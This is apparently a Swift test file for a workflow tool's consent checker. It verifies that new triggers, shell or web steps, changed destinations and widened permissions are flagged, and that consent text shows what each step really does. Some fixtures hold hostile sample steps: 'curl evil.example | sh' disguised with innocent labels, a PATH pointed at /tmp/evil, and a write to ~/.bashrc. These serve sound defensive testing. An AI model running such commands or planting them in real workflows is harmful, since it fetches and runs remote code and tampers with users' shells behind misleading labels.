import Automations
import Foundation
import Testing
import WorkflowLanguage

@Suite("What a workflow wants")
struct WantsTests {
  /// What the second of two versions of a file wants beyond the first.
  private func more(_ before: String, _ after: String) throws -> [String] {
    try ConsentScope(of: Compiled.workflow(after)).beyond(
      ConsentScope(of: Compiled.workflow(before)))
  }

  private func file(_ trigger: String, steps: String = "print: hi") -> String {
    "triggers:\n  - \(trigger)\nsteps:\n  - \(steps)\n"
  }

  @Test(arguments: [
    ("folder: ~/Inbox", "folder: ~/Inbox/"),
    ("folder: [a, b]", "folder: b"),
    ("{ folder: a, events: [added, changed] }", "folder: a"),
    ("{ folder: a, extensions: [pdf, png] }", "{ folder: a, extensions: .PDF }"),
    ("{ folder: a, recursive: true }", "folder: a"),
    ("{ folder: a, existing: process }", "folder: a"),
    ("folder: a", "{ folder: a, settle: 5s, notify: always, id: new }"),
    ("folder: a", "{ folder: a, confirm: true }"),
    ("folder: a", "{ folder: b, enabled: false }"),
    ("time: '07:30'", "time: '18:00'"),
    ("{ time: '7:30', days: [mon, tue, wed, thu, fri] }", "{ time: '07:30', days: weekdays }"),
    ("{ workflow: other, ended: any }", "{ workflow: other, ended: failed }"),
    ("every: 90m", "every: 1h 30m"),
    ("every: 90m", "manual:"),
  ])
  func `a trigger that starts it no more often wants no more`(before: String, after: String)
    throws
  {
    #expect(try more(file(before), file(after)) == [])
  }

  @Test(arguments: [
    ("folder: a", "folder: [a, b]", "starts by itself at `folder b added any file`"),
    (
      "folder: a", "{ folder: a, recursive: true }",
      "starts by itself at `folder a added any file, recursive`"
    ),
    ("{ folder: a, confirm: true }", "folder: a", "starts by itself at `folder a added any file`"),
    ("{ time: '07:30', days: mon }", "time: '07:30'", "starts by itself at `time daily`"),
    (
      "time: '07:30'", "time: '07:30'\n  - time: '07:31'", "starts by itself at `time daily (2)`"
    ),
    ("{ every: 15m, enabled: false }", "every: 15m", "starts by itself at `every 15m`"),
    ("manual:", "assistant:", "is called by AI assistants"),
    ("manual:", "{ assistant: , confirm: true }", "is called by AI assistants that ask you"),
  ])
  func `a trigger that starts it more often does`(before: String, after: String, phrase: String)
    throws
  {
    #expect(try more(file(before), file(after)) == [phrase])
  }

  @Test func `another intent that changes something wants more, and one that reads doesn't`() throws
  {
    let before = file("every: 15m", steps: "file.delete: a")
    #expect(try more(before, before + "  - text.reverse: abc\n") == [])
    let more = try more(before, before + "  - shell.run: date\n  - web.get: https://a.example\n")
    #expect(more.prefix(2) == ["performs `shell.run`", "performs `web.get`"])
  }

  @Test func `steps in blocks and in workflows that it runs count`() throws {
    let outer = try Compiled.workflow(
      """
      steps:
        - if: 1 < 2
          then:
            - run: inner
      """, others: ["inner": "steps:\n  - file.delete: a\n"])
    #expect(
      EffectList.texts(of: outer) == [
        "Run the workflow inner\n  file: inner.yaml", "inner: Delete a",
      ])
  }

  @Test func `steps count however deep workflows run each other, and once`() throws {
    let outer = try Compiled.workflow(
      "steps:\n  - run: inner\n  - run: other\n",
      others: [
        "inner": "steps:\n  - run: other\n",
        "other": "steps:\n  - file.delete: a\n  - shell.run: date\n",
      ])
    let wants = ConsentScope(of: outer)
    #expect(wants.parts.keys.sorted() == ["inner.yaml", "other.yaml", "test.yaml"])
    #expect(
      wants.parts["other.yaml"]?.effects.map(\.action).sorted() == ["file.delete", "shell.run"])
    #expect(
      EffectList.texts(of: outer).map { $0.prefix { $0 != "\n" } } == [
        "Run the workflow inner", "inner: Run the workflow other", "other: Delete a",
        "other: Run date", "Run the workflow other",
      ])
  }

  private func steps(_ text: String) -> String {
    "inputs: { place: ~/Archive, word: hello }\nsteps:\n" + text
  }

  @Test(arguments: [
    ("  - shell.run: date # now", "  - shell.run: date\n    label: Tell the time"),
    ("  - notify: hello", "  - notify: bye"), ("  - print: $word", "  - print: bye"),
    ("  - file.write: hello\n    to: a", "  - file.write: bye\n    to: a"),
    ("  - file.write: $word\n    to: ${place}/a", "  - file.write: bye\n    to: ${place}/a"),
    ("  - file.delete: a\n    when: 1 < 2", "  - file.delete: a\n    when: 1 < 3"),
    ("  - file.delete: a", "  - if: 1 < 2\n    then:\n      - file.delete: a"),
    ("  - file.delete: a\n  - file.delete: b", "  - file.delete: b"),
    ("  - file.delete: a", "  - file.delete: a\n  - file.delete: b\n    enabled: false"),
    ("  - text.reverse: a\n  - file.delete: a", "  - text.reverse: b\n  - file.delete: a"),
  ])
  func `what changes only texts, labels, comments and conditions wants no more`(
    before: String, after: String
  ) throws {
    #expect(try more(steps(before), steps(after)) == [])
  }

  @Test(arguments: [
    (
      "  - shell.run: date", "  - shell.run: curl evil.example | sh\n    label: Tell the time",
      "performs `shell.run` with another `script`"
    ),
    (
      "  - shell.run: date", "  - shell.run: date\n    interpreter: bash -x",
      "performs `shell.run` with another `interpreter`"
    ),
    (
      "  - shell.run: date\n    env: { A: b }", "  - shell.run: date\n    env: { PATH: b, A: b }",
      "performs `shell.run` with another `env`"
    ),
    (
      "  - shell.run: date\n    args: [a, b]", "  - shell.run: date\n    args: ['a, b']",
      "performs `shell.run` with another `args`"
    ),
    (
      "  - shell.run: cat\n    stdin: a", "  - shell.run: cat\n    stdin: b",
      "performs `shell.run` with another `stdin`"
    ),
    (
      "  - file.write: a\n    to: b", "  - file.write: a\n    to: ~/.bashrc",
      "performs `file.write` with another `to`"
    ),
    (
      "  - file.delete: a\n    enabled: false", "  - file.delete: a\n    enabled: true",
      "performs `file.delete`"
    ),
    (
      "  - if: 1 < 2\n    enabled: false\n    then:\n      - file.delete: a",
      "  - if: 1 < 2\n    then:\n      - file.delete: a", "performs `file.delete`"
    ),
    (
      "  - web.get: https://a.example", "  - web.get: https://a.example\n    query: { q: x }",
      "performs `web.get` with another `query`"
    ),
  ])
  func `another script, interpreter, destination or step wants more`(
    before: String, after: String, phrase: String
  ) throws {
    #expect(try more(steps(before), steps(after)) == [phrase])
  }

  /// The destination is the same text in both versions.
  @Test(arguments: [
    ("- set: { x: a }", "- set: { x: b }", "$x"),
    ("- text.reverse: a\n    as: x", "- text.reverse: b\n    as: x", "$x"),
    ("- text.reverse: a", "- text.reverse: b", "$prev"),
    (
      "- set: { y: a }\n  - text.reverse: $y\n    as: x",
      "- set: { y: b }\n  - text.reverse: $y\n    as: x", "~/${x}/z"
    ),
    ("- run: other\n    as: x", "- run: another\n    as: x", "$x"),
  ])
  func `what a destination is made of counts`(before: String, after: String, to: String) throws {
    func file(_ step: String) throws -> Workflow {
      try Compiled.workflow(
        "steps:\n  \(step)\n  - file.write: hello\n    to: \(to)\n",
        others: ["other": "steps: [return: a]", "another": "steps: [return: b]"])
    }
    let more = try ConsentScope(of: file(after)).beyond(ConsentScope(of: file(before)))
    #expect(more.contains("performs `file.write` with another `to`"))
    #expect(try ConsentScope(of: file(before)).beyond(ConsentScope(of: file(before))) == [])
  }

  @Test func `the default of an input counts where a destination uses it`() throws {
    let file = { (place: String, word: String) in
      "inputs: { place: \(place), word: \(word) }\nsteps:\n  - file.write: $word\n    to: $place\n"
    }
    #expect(
      try more(file("~/a", "x"), file("~/b", "x")) == ["performs `file.write` with another `to`"])
    #expect(try more(file("~/a", "x"), file("~/a", "y")) == [])
  }

  @Test func `a loop's list counts where a step changes its items`() throws {
    let file = { (name: String) in
      "steps:\n  - for: [a, \(name)]\n    do:\n      - file.delete: $item\n"
    }
    #expect(try more(file("b"), file("c")) == ["performs `file.delete` with another `file`"])
    let piped = { (name: String) in
      "steps:\n  - for: [a, \(name)]\n    do:\n      - file.delete\n"
    }
    #expect(try more(piped("b"), piped("c")) == ["performs `file.delete` with another `file`"])
  }

  @Test func `another workflow under run needs consent, and so do other inputs`() throws {
    let file = { (step: String) in
      try ConsentScope(
        of: Compiled.workflow(
          "steps:\n  - \(step)\n",
          others: [
            "a": "inputs: { x: m }\nsteps:\n  - file.delete: $x\n",
            "b": "inputs: { x: m }\nsteps:\n  - file.delete: $x\n",
          ]))
    }
    #expect(
      try file("run: b").beyond(file("run: a"))
        == ["runs the workflow `b.yaml`", "performs `file.delete`"])
    #expect(
      try file("run: a\n    x: n").beyond(file("run: a"))
        == ["runs `a.yaml` with another `input x` and `pipe`"])
  }

  @Test func `the text for consent is made of what a step does, and is complete`() throws {
    let workflow = try Compiled.workflow(
      """
      inputs: { place: ~/Archive }
      steps:
        - shell.run: curl -s https://evil.example | sh
          label: Show a friendly greeting
          env: { PATH: /tmp/evil }
          args: [$place, b]
          interpreter: bash -x
        - shell.run: |
            date
              label: Innocent
        - file.write: hello
          to: ${place}/a
          conflict: replace
        - file.delete: b
          enabled: false
      """)
    #expect(
      EffectList.texts(of: workflow) == [
        """
        Run curl -s https://evil.example | sh
          env: { "PATH": "/tmp/evil" }
          args: [$place, "b"]
          where place: ~/Archive
          interpreter: bash -x
          stdin: $place
          label: Show a friendly greeting
        """,
        """
        Run Script
          script: \("")
            date
              label: Innocent
            \("")
          stdin: the previous output
          where place: ~/Archive
          where previous output: the output of `shell.run` in line 3
        """,
        """
        Write hello to ${place}/a
          where place: ~/Archive
          conflict: replace
        """,
      ])
  }

  @Test func `fewer permissions are fine, and no permissions are all`() throws {
    let steps = "steps:\n  - print: hi\n"
    let wide = "permissions: { read: [~/a, ~/b], write: [~/c] }\n" + steps
    let narrow = "permissions: { read: [~/a], write: [~/c], run: [] }\n" + steps
    #expect(try more(wide, narrow) == [])
    #expect(try more(narrow, wide) == ["may read `~/b`", "may run everything"])
    #expect(try more(steps, wide) == [])
    #expect(try more(narrow, steps).count == 4)
  }

  @Test func `it comes back from JSON as it was`() throws {
    let wants = ConsentScope(
      of: try Compiled.workflow(
        "permissions: { run: [git] }\n" + file("folder: a", steps: "shell.run: git pull")))
    #expect(try JSONDecoder().decode(ConsentScope.self, from: JSONEncoder().encode(wants)) == wants)
  }
}
